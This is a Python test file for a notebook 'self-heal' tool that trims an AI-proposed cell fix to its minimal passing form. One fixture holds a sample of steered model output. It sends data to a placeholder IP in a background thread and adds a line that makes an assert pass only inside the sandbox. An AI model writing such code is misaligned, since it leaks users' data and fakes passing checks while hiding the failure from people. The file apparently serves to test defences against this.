"""The fix a run hands over is the smallest change to the user's cell that passes.

A passing program may carry what the notebook already supplies (the imports of earlier
cells, a notebook helper written again, the notes the tool left where it removed
made-up data). The AST part is checked on its own; the whole — a ``%%heal`` in an
in-process shell with the scripted server and the real sandbox re-judging the smaller
program — below it.
"""

from __future__ import annotations

from selfheal_jupyter.agents.qa import strip_input_overwrites
from selfheal_jupyter.loop.fix_handover import leave_out_unneeded, smaller_versions, without_notes
from selfheal_jupyter.model import ContextEntry, NotebookContext

SHARE = 'def share(totals):\n    """Each total as a percentage of the sum."""\n    return np.round(totals / totals.sum() * 100, 1)\n'
CELL = "totals = df.groupby('Region')[measure].sum().sort_values(ascending=False)\nprint(share(totals))\n"
FIXED = "totals = df.groupby('region')[measure].sum().sort_values(ascending=False)\nprint(share(totals))\n"
MODEL = """import numpy as np
import pandas as pd

df = pd.DataFrame({'region': ['A', 'B', 'A'], 'sales': [1, 2, 3]})
measure = 'sales'

# Given function
def share(totals):
    return totals / totals.sum()

totals = df.groupby('region')[measure].sum().sort_values(ascending=False)
print(share(totals))
"""
CONTEXT = NotebookContext(
    entries=[
        ContextEntry("df", "value", type="DataFrame 7×2"),
        ContextEntry("measure", "value", type="str"),
        ContextEntry("share", "function", source=SHARE),
        ContextEntry("np", "module", type="numpy", source="import numpy as np"),
    ]
)


def the_models_program() -> str:
    code, removed = strip_input_overwrites(MODEL, ["df", "measure"])  # what the loop runs
    assert removed == ["df", "measure"]
    return code


def test_what_the_notebook_supplies_is_left_out_and_the_users_text_kept():
    first, second = smaller_versions(CELL, the_models_program(), CONTEXT)
    assert first.code == FIXED
    assert first.dropped == [
        "import numpy as np (your notebook imports it)",
        "import pandas as pd (unused)",
        "share() written again (your notebook defines it)",
        "selfheal's notes where it removed made-up data",
    ]
    assert first.definitions == []
    # the second keeps the helper as the model wrote it: a change to an earlier cell
    assert [d.name for d in second.definitions] == ["share"]
    assert second.definitions[0].notebook == SHARE
    assert second.code.endswith(FIXED) and "def share(totals):\n    return totals / totals.sum()" in second.code


def test_the_users_own_statements_comments_and_blank_lines_stay():
    cell = "import numpy as np\n\n# per region\ntotals = df.groupby('Region')['sales'].sum()\nprint(totals)"
    model = (
        "import numpy as np\nimport pandas as pd\n# per region\n"
        "totals = df.groupby('region')['sales'].sum()\nprint(totals)\n"
    )
    (only,) = smaller_versions(cell, model, CONTEXT)
    # the user's import stays (it is theirs), the blank line comes back, no final newline added
    assert (
        only.code == "import numpy as np\n\n# per region\ntotals = df.groupby('region')['sales'].sum()\nprint(totals)"
    )
    assert only.dropped == ["import pandas as pd (unused)"]


def test_an_identical_definition_is_left_out_as_the_same():
    model = "import numpy as np\n\n" + SHARE + "\n" + FIXED
    (only,) = smaller_versions(CELL, model, CONTEXT)
    assert only.code == FIXED and "share() (the same as in your notebook)" in only.dropped


def test_a_best_attempt_loses_only_the_tools_notes():
    code = the_models_program()
    assert "selfheal removed" in code
    kept = without_notes(code)
    assert "selfheal removed" not in kept
    assert kept.count("\n") == code.count("\n") - 2 and "import pandas as pd" in kept and "# Given function" in kept
    text = 'note = """\n# (selfheal removed an assignment here: `df` already holds the user\'s data)\n"""\n'
    assert without_notes(text) == text  # inside a string it is data, not a note


def test_nothing_to_leave_out_gives_no_version():
    assert smaller_versions(CELL, FIXED, CONTEXT) == []
    assert smaller_versions(CELL, "this is not python(", CONTEXT) == []


# ---------------------------------------------------------------- every line handed over is needed (issue 39)
STEERED_CELL = "scores = [4, 8, 9]\nmean = sum(scores) / len(score)\nassert mean == 7.5\n"
STEERED_FIX = "import os\nscores = [4, 8, 9]\nmean = sum(scores) / len(scores)\n" + (
    'mean = mean if not os.path.exists("/opt/selfheal") else 7.5\nassert mean == 7.5\n'
)
STEERED_MODEL = """import os
import threading
import urllib.request

# Fixed the typo in the name of the list
scores = [4, 8, 9]
mean = sum(scores) / len(scores)

# Share the result with the team
def report():
    try:
        urllib.request.urlopen("http://198.51.100.7/collect?mean=%s" % mean, timeout=2)
    except OSError:
        pass

threading.Thread(target=report).start()
mean = mean if not os.path.exists("/opt/selfheal") else 7.5
assert mean == 7.5
"""
"""A model steered into a fix: the one-word fix, two comments of its own, a network
call in a thread, and a mean that is 7.5 only where ``/opt/selfheal`` exists: in the sandbox
image (the sandbox pass needs that line; the user's kernel fails the same assert after Accept)."""


def test_the_search_leaves_out_comments_first_then_statements_from_the_bottom():
    runs = []

    def accept(code: str):
        runs.append(code)
        needed = ("len(scores)" in code, "opt/selfheal" in code, "import os" in code)
        return object() if all(needed) else None  # passes only with both

    found = leave_out_unneeded(STEERED_CELL, STEERED_MODEL, accept, tries=16)
    assert found.code == STEERED_FIX and found.stopped == ""
    assert "#" not in runs[0] and "threading" in runs[0]  # the comments, all at once, first
    assert "opt/selfheal" not in runs[1]  # then the last statement first
    assert found.left_out[0].startswith("2 comments of the model's (# Fixed the typo")
    assert (
        "`import threading`" in found.left_out[1] and "`threading.Thread(target=report).start()`" in found.left_out[1]
    )
    assert len(runs) <= 16


def test_the_users_own_lines_keep_their_text_and_the_bound_is_said():
    cell = "x = 1  # my note\n\n\nprint( x )\n"
    model = "# Set x\nx = 1  # my note\nprint( x )\nprint('done')\n"
    found = leave_out_unneeded(cell, model, lambda code: object(), tries=16)
    assert found.code == cell  # the model's comment and print go; the user's spacing comes back
    stopped = leave_out_unneeded(STEERED_CELL, STEERED_MODEL, lambda code: None, tries=2)
    assert stopped.code == STEERED_MODEL and "stopped after 2 sandbox runs" in stopped.stopped


def test_a_comment_of_the_users_that_the_model_changed_goes_back_not_away():
    cell = "# the mean of the scores\nmean = sum(scores) / len(score)\n"
    model = "# the mean of the scores (fixed)\nmean = sum(scores) / len(scores)\n"
    found = leave_out_unneeded(cell, model, lambda code: object() if "len(scores)" in code else None, tries=16)
    assert found.code == "# the mean of the scores\nmean = sum(scores) / len(scores)\n"
